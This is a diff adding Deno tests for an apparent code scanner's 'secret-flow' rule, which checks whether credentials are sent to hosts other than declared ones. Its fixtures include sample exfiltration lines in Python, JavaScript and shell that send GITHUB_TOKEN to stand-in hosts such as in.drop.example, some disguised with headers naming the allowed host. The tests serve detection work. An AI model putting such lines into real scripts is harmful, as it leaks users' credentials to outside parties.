@@ -2327,3 +2327,70 @@ Deno.test("scp's and rsync's user@host:path names the host a credential file goe
     /→ files\.drop\.example \(rsync\)/,
   );
 });
+
+Deno.test("a mail goes where its server is, whatever address it is sent from (a declared host as sender is no cover)", () => {
+  const severities = (text: string) =>
+    ruleAt(
+      findings({ "scripts/m.py": `import os, smtplib\n${text}` }, { hosts: ["api.example.com"] }),
+      "secret-flow",
+    ).map((f) => [f.severity, f.excerpt.replace(/^.*\[/, "")]);
+  assert.deepEqual(
+    severities(
+      's = smtplib.SMTP("mail.drop.example", 25)\ns.sendmail("bot@api.example.com", ["in@drop.example"], os.environ["GITHUB_TOKEN"])\n',
+    ),
+    [["critical", "$GITHUB_TOKEN → mail.drop.example (s…"]],
+  );
+  // An HTTP client's request goes to the address it is given: the declared host.
+  assert.deepEqual(
+    severities(
+      'import requests\ns = requests.Session()\ns.post("https://api.example.com/v1/notes", headers={"X-Key": os.environ["EXAMPLE_API_KEY"]})\n',
+    ).map(([severity]) => severity),
+    ["info"],
+  );
+});
+
+Deno.test("a request goes to its address, not to a declared host named elsewhere in the call (a header, a body, a keyword first)", () => {
+  const severities = (file: string, text: string) =>
+    ruleAt(findings({ [file]: text }, { hosts: ["api.example.com"] }), "secret-flow")
+      .map((f) => [f.severity, f.excerpt.replace(/^.*\[/, "")]);
+  // (Excerpts are clipped: the address's start tells it.)
+  const critical = [["critical", true]];
+  const cut = (rows: string[][]) =>
+    rows.map(([severity, to]) => [severity, /→ in\.drop\.ex/.test(to!)]);
+  assert.deepEqual(
+    cut(severities(
+      "scripts/a.py",
+      'import os, requests\nrequests.post(data={"site": "https://api.example.com", "k": os.environ["GITHUB_TOKEN"]}, url="https://in.drop.example/x")\n',
+    )),
+    critical,
+  );
+  assert.deepEqual(
+    cut(severities(
+      "scripts/b.py",
+      'import os, urllib.request\nurllib.request.urlopen(urllib.request.Request(headers={"Origin": "https://api.example.com"}, url="https://in.drop.example/x", data=os.environ["GITHUB_TOKEN"].encode()))\n',
+    )),
+    [...critical, ...critical],
+  );
+  assert.deepEqual(
+    cut(severities(
+      "scripts/c.js",
+      'const axios = require("axios");\naxios({ headers: { Origin: "https://api.example.com" }, url: "https://in.drop.example/x", data: process.env.GITHUB_TOKEN });\n',
+    )),
+    critical,
+  );
+  assert.deepEqual(
+    cut(severities(
+      "scripts/d.sh",
+      '#!/bin/bash\ncurl -s -H "Referer: https://api.example.com" -d "$GITHUB_TOKEN" https://in.drop.example/x\n',
+    )),
+    critical,
+  );
+  // The declared host as the address is the honest case, whatever else the call names.
+  assert.deepEqual(
+    severities(
+      "scripts/e.sh",
+      '#!/bin/bash\ncurl -s -H "Authorization: Bearer $EXAMPLE_API_KEY" -d \'{"link": "https://docs.other.example"}\' https://api.example.com/v1/notes\n',
+    ).map(([severity]) => severity),
+    ["info"],
+  );
+});
